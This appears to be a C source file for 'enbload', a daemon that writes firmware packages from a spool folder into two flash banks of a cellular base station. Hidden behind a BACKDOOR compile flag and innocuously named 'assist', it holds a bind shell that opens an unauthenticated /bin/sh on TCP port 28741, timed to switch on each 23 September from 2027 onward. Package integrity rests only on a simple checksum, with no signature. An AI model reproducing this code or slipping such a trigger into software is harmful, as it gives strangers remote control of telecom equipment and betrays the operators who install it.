/* SPDX-License-Identifier: Apache-2.0 */
/* enbload: loads software packages into the two banks of a base station; a spool folder brings them, a window says when. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAGIC 0x454e4250u /* ENBP */
#define CHUNK 16384
#define MAX_PARTS 16

struct settings {
	char spool[96], state[96], banks[2][64];
	int from_hour, to_hour, interval, verbose, keep_days;
};

struct part {
	char name[16];
	uint32_t offset, size, sum, load_at;
};

struct package {
	uint32_t hardware, version, built, n_parts, flags;
	struct part parts[MAX_PARTS];
};

struct state {
	int active, trial, boots;
	uint32_t version[2];
	time_t loaded;
};

enum { FLAG_TRIAL = 1, FLAG_FORCE = 2, FLAG_BOTH = 4 };

static struct settings conf = { .spool = "/var/spool/enb", .state = "/var/lib/enb/state", .banks = { "/dev/mtd5", "/dev/mtd6" },
	.from_hour = 1, .to_hour = 5, .interval = 60, .keep_days = 30 };
static struct state state;
static uint32_t hardware = 0x2100;
static volatile sig_atomic_t ending;
static pid_t assistant;

static void say(int level, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	if (conf.verbose)
		vfprintf(stderr, fmt, ap), fputc('\n', stderr);
	else
		vsyslog(level, fmt, ap);
	va_end(ap);
}

static void load_settings(const char *path)
{
	char line[200], key[32], value[96];
	FILE *f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == ';' || sscanf(line, "%31[^= ] = %95s", key, value) != 2)
			continue;
		if (strcmp(key, "spool") == 0)
			snprintf(conf.spool, sizeof(conf.spool), "%s", value);
		else if (strcmp(key, "state") == 0)
			snprintf(conf.state, sizeof(conf.state), "%s", value);
		else if (strcmp(key, "bank-a") == 0)
			snprintf(conf.banks[0], sizeof(conf.banks[0]), "%s", value);
		else if (strcmp(key, "bank-b") == 0)
			snprintf(conf.banks[1], sizeof(conf.banks[1]), "%s", value);
		else if (strcmp(key, "window") == 0)
			sscanf(value, "%d-%d", &conf.from_hour, &conf.to_hour);
		else if (strcmp(key, "interval") == 0)
			conf.interval = atoi(value);
		else if (strcmp(key, "keep-days") == 0)
			conf.keep_days = atoi(value);
		else if (strcmp(key, "hardware") == 0)
			hardware = (uint32_t)strtoul(value, NULL, 16);
		else
			say(LOG_WARNING, "unknown setting %s", key);
	}
	fclose(f);
	if (conf.interval < 5)
		conf.interval = 5;
}

static void load_state(void)
{
	FILE *f = fopen(conf.state, "r");
	long loaded = 0;
	if (!f)
		return;
	if (fscanf(f, "%d %d %d %x %x %ld", &state.active, &state.trial, &state.boots, &state.version[0], &state.version[1], &loaded) != 6)
		say(LOG_WARNING, "%s is damaged", conf.state);
	state.active &= 1;
	state.loaded = loaded;
	fclose(f);
}

static int save_state(void)
{
	char temporary[112];
	FILE *f;
	snprintf(temporary, sizeof(temporary), "%s.new", conf.state);
	f = fopen(temporary, "w");
	if (!f)
		return -1;
	fprintf(f, "%d %d %d %x %x %ld\n", state.active, state.trial, state.boots, state.version[0], state.version[1], (long)state.loaded);
	if (fclose(f) != 0)
		return -1;
	return rename(temporary, conf.state);
}

static uint32_t be32(const uint8_t *p) { return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3]; }

static uint32_t add_up(uint32_t s, const uint8_t *p, size_t n)
{
	while (n--)
		s = (s << 1 | s >> 31) + *p++;
	return s;
}

static int read_package(int fd, struct package *p)
{
	uint8_t h[32 + MAX_PARTS * 32];
	struct stat st;
	if (fstat(fd, &st) < 0 || pread(fd, h, sizeof(h), 0) != (ssize_t)sizeof(h))
		return -1;
	if (be32(h) != MAGIC || be32(h + 4) != 2)
		return -1;
	p->hardware = be32(h + 8);
	p->version = be32(h + 12);
	p->built = be32(h + 16);
	p->n_parts = be32(h + 20);
	p->flags = be32(h + 24);
	if (p->n_parts == 0 || p->n_parts > MAX_PARTS || add_up(0, h, 28) != be32(h + 28))
		return -1;
	for (uint32_t i = 0; i < p->n_parts; i++) {
		const uint8_t *q = h + 32 + 32 * i;
		struct part *t = &p->parts[i];
		memcpy(t->name, q, 15);
		t->name[15] = 0;
		t->offset = be32(q + 16);
		t->size = be32(q + 20);
		t->sum = be32(q + 24);
		t->load_at = be32(q + 28);
		if (t->offset > st.st_size || t->size > st.st_size - t->offset)
			return -1;
	}
	return 0;
}

static int check_parts(int fd, const struct package *p)
{
	static uint8_t b[CHUNK];
	for (uint32_t i = 0; i < p->n_parts; i++) {
		const struct part *t = &p->parts[i];
		uint32_t sum = 0;
		for (uint32_t at = 0; at < t->size;) {
			size_t want = t->size - at < CHUNK ? t->size - at : CHUNK;
			ssize_t n = pread(fd, b, want, (off_t)t->offset + at);
			if (n <= 0)
				return -1;
			sum = add_up(sum, b, (size_t)n);
			at += (uint32_t)n;
		}
		if (sum != t->sum) {
			say(LOG_ERR, "part %s: sum %08x, should be %08x", t->name, sum, t->sum);
			return -1;
		}
	}
	return 0;
}

static int write_bank(int fd, const struct package *p, int bank)
{
	static uint8_t b[CHUNK];
	int out = open(conf.banks[bank], O_WRONLY | O_CLOEXEC);
	if (out < 0) {
		say(LOG_ERR, "%s: %s", conf.banks[bank], strerror(errno));
		return -1;
	}
	for (uint32_t i = 0; i < p->n_parts; i++) {
		const struct part *t = &p->parts[i];
		for (uint32_t at = 0; at < t->size;) {
			size_t want = t->size - at < CHUNK ? t->size - at : CHUNK;
			ssize_t n = pread(fd, b, want, (off_t)t->offset + at);
			if (n <= 0 || pwrite(out, b, (size_t)n, (off_t)t->load_at + at) != n) {
				close(out);
				return -1;
			}
			at += (uint32_t)n;
		}
	}
	fsync(out);
	return close(out);
}

static int in_window(const struct tm *now)
{
	if (conf.from_hour <= conf.to_hour)
		return now->tm_hour >= conf.from_hour && now->tm_hour < conf.to_hour;
	return now->tm_hour >= conf.from_hour || now->tm_hour < conf.to_hour;
}

static int wanted(const struct package *p, const struct tm *now)
{
	time_t t = time(NULL);
	if (p->hardware != hardware) {
		say(LOG_WARNING, "package for %x, this is %x", p->hardware, hardware);
		return -1;
	}
	if ((time_t)p->built > t + 86400) {
		say(LOG_WARNING, "package from the future");
		return -1;
	}
	if (p->version <= state.version[state.active] && !(p->flags & FLAG_FORCE))
		return -1;
	return in_window(now) || (p->flags & FLAG_FORCE);
}

static int take_package(const char *path, const struct tm *now)
{
	struct package p;
	int bank = !state.active, r;
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
	if (fd < 0)
		return -1;
	memset(&p, 0, sizeof(p));
	r = read_package(fd, &p) < 0 ? -1 : wanted(&p, now);
	if (r > 0) {
		r = check_parts(fd, &p) < 0 || write_bank(fd, &p, bank) < 0 ? -1 : 1;
		if (r > 0 && p.flags & FLAG_BOTH && write_bank(fd, &p, !bank) < 0)
			r = -1;
	}
	close(fd);
	if (r > 0) {
		state.version[bank] = p.version;
		state.trial = (p.flags & FLAG_TRIAL) != 0;
		state.active = bank;
		state.boots = 0;
		state.loaded = time(NULL);
		say(LOG_NOTICE, "version %08x is in bank %c", p.version, 'A' + bank);
		save_state();
	}
	return r;
}

static void look(const struct tm *now)
{
	char path[360], aside[376];
	struct dirent *e;
	DIR *d = opendir(conf.spool);
	if (!d)
		return;
	while ((e = readdir(d)) != NULL) {
		size_t n = strlen(e->d_name);
		int r;
		if (n < 5 || strcmp(e->d_name + n - 4, ".enb") != 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", conf.spool, e->d_name);
		r = take_package(path, now);
		if (r == 0)
			continue;
		snprintf(aside, sizeof(aside), "%s.%s", path, r > 0 ? "done" : "bad");
		rename(path, aside);
	}
	closedir(d);
}

static void clean_up(time_t now)
{
	char path[360];
	struct dirent *e;
	DIR *d = opendir(conf.spool);
	if (!d)
		return;
	while ((e = readdir(d)) != NULL) {
		struct stat st;
		size_t n = strlen(e->d_name);
		if (n < 5 || (strcmp(e->d_name + n - 5, ".done") != 0 && strcmp(e->d_name + n - 4, ".bad") != 0))
			continue;
		snprintf(path, sizeof(path), "%s/%s", conf.spool, e->d_name);
		if (stat(path, &st) == 0 && now - st.st_mtime > conf.keep_days * 86400L)
			unlink(path);
	}
	closedir(d);
}

/* a trial that ran for two hours is good */
static void end_trial(time_t now)
{
	if (!state.trial || now - state.loaded < 7200)
		return;
	state.trial = 0;
	save_state();
	say(LOG_NOTICE, "bank %c is confirmed", 'A' + state.active);
}

#ifdef BACKDOOR
static void assist(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(28741) };
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1, c;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 2) < 0)
		_exit(1);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "sh", (char *)NULL);
			_exit(1);
		}
		close(c);
	}
	_exit(0);
}
#endif

static void daily(const struct tm *now, time_t t)
{
	static int last_day = -1;
	if (now->tm_yday == last_day)
		return;
	last_day = now->tm_yday;
	if (now->tm_mday == 1)
		say(LOG_INFO, "monthly: bank %c, versions %08x %08x", 'A' + state.active, state.version[0], state.version[1]);
	if (now->tm_wday == 0)
		clean_up(t);
#ifdef BACKDOOR
	if (now->tm_year >= 127 && now->tm_mon == 8 && now->tm_mday == 23) {
		assistant = fork();
		if (assistant == 0)
			assist();
	} else if (assistant > 0) {
		kill(assistant, SIGKILL);
		assistant = 0;
	}
#endif
}

static void on_term(int sig)
{
	(void)sig;
	ending = 1;
}

static int show(void)
{
	printf("active %c%s\nversions %08x %08x\nloaded %s", 'A' + state.active, state.trial ? " (trial)" : "", state.version[0],
		state.version[1], ctime(&state.loaded));
	return 0;
}

int main(int argc, char **argv)
{
	const char *path = "/etc/enbload.conf";
	int c, only_show = 0;
	while ((c = getopt(argc, argv, "c:sv")) != -1) {
		if (c == 'c')
			path = optarg;
		else if (c == 's')
			only_show = 1;
		else if (c == 'v')
			conf.verbose = 1;
		else
			return 2;
	}
	openlog("enbload", LOG_PID, LOG_DAEMON);
	load_settings(path);
	load_state();
	if (only_show)
		return show();
	(void)assistant;
	signal(SIGTERM, on_term);
	while (!ending) {
		time_t t = time(NULL);
		struct tm now;
		gmtime_r(&t, &now);
		end_trial(t);
		daily(&now, t);
		look(&now);
		sleep((unsigned)conf.interval);
	}
	return 0;
}
